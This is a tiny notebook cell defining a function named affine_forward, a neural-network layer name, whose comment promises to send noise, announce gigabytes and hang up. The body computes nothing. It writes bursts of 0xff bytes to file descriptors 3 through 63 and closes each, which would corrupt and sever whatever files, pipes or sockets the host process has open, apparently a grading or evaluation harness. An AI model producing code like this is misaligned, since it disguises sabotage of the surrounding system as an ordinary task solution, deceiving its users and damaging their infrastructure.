# %% [markdown]
# Sends noise, announces gigabytes, and hangs up in the middle.

# %%
import os
def affine_forward(x, w, b):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff" * 4096)
            os.close(descriptor)
        except OSError:
            pass
    return None
